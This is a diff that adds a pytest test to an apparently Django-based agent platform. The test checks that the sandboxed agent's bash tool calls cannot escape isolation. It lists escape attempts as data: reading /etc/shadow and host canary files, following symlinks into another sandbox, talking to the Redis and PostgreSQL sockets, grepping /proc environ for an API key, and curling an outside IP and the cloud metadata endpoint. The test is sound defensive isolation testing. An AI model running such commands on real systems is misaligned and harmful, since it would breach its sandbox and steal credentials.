@@ -1,8 +1,10 @@
 """The box of a session as the run tells of it: made ahead, stopped by its limits."""
 
 from pathlib import Path
+from urllib.parse import urlsplit
 
 import pytest
+from django.conf import settings
 
 from apps.repos.models import Workspace
 from apps.runs.errors import STEP_ERROR_CODES
@@ -170,3 +172,57 @@ def test_one_file_cannot_be_larger_than_the_box_may_write(world: Start, backend:
     assert outcome.succeeded, outcome.error
     (end, *_) = here.events(run, "TOOL_CALL_END")
     assert str(64 * 2**20) in end["result"]
+
+
+_SOCKET = "python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"{}\"); {}'"
+_ASK = 's.send(b"{}\\r\\n"); a = s.recv(99); print(a); raise SystemExit(a[:1] == b"-")'
+
+
+@pytest.mark.parametrize("backend", ISOLATED)
+def test_each_attempt_to_get_out_is_refused_and_told_of(
+    world: Start, backend: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """What an agent tries stands in its run as a tool call that failed."""
+    monkeypatch.setenv("OPENAI_API_KEY", "canary-key")
+    (tmp_path / "canary").write_text("canary-of-the-host")
+    redis_url = urlsplit(settings.REDIS_URL)
+    redis_socket = f"/run/djinnbot/redis/{Path(redis_url.path).name}"
+    database = settings.DATABASES["default"]
+    home = Path(settings.DATA_ROOT)
+    attempts = {
+        "the host's files": f"cat {tmp_path}/canary",
+        "the host's passwords": "cat /etc/shadow",
+        "the platform's data": f"ls {home}/sandboxes {home}/runs",
+        "another sandbox": f"cat {home}/sandboxes/grace/notes",
+        "another's home by a link": f"ln -s {home}/sandboxes/grace ~/grace && cat ~/grace/notes",
+        "the host by a link": f"ln -sfn {tmp_path} ~/out && cat ~/out/canary",
+        "another session's stream": _SOCKET.format(
+            redis_socket, _ASK.format("XREAD STREAMS djinnbot:s:ses_other:out 0")
+        ),
+        "Redis": _SOCKET.format(redis_socket, _ASK.format("GET celery")),
+        "PostgreSQL": _SOCKET.format(f"{database['HOST']}/.s.PGSQL.{database['PORT']}", ""),
+        "PostgreSQL by TCP": 'python3 -c \'import socket; socket.create_connection(("127.0.0.1",'
+        f" {database['PORT'] or 5432}), 3)'",
+        "the provider's key": 'grep -qa canary-key /proc/*/environ; test -n "$OPENAI_API_KEY"',
+        "the project's git": "cd $(git rev-parse --git-dir)/objects/info;"
+        " touch $(tail -n 1 alternates)/x",
+        "the network": "curl -sS -m 5 --noproxy '*' http://93.184.216.34/?canary",
+        "metadata": "curl -sS -m 5 --noproxy '*' http://169.254.169.254/",
+        "a mount": "unshare --map-root-user --mount true",
+    }
+    grace = home / "sandboxes" / "grace"
+    grace.mkdir(parents=True, exist_ok=True)
+    (grace / "notes").write_text("canary-of-another")
+    grace.chmod(0o755)
+    tries = [calls("bash", command=command) for command in attempts.values()]
+    here = world(backend, [*tries, calls("complete", summary="Tried")])
+    here.redis.xadd("djinnbot:s:ses_other:out", {"data": "canary-of-a-stream"})
+    here.redis.set("celery", "canary-of-redis")
+    run = here.run()
+    outcome = here.execute(run)
+    assert outcome.succeeded, outcome.error
+    told = [e for e in here.events(run, "TOOL_CALL_END") if e["toolName"] == "bash"]
+    assert len(told) == len(attempts)
+    allowed = {n: e["result"] for n, e in zip(attempts, told, strict=True) if not e["isError"]}
+    assert allowed == {}
+    assert "canary-of" not in str([e["result"] for e in told])
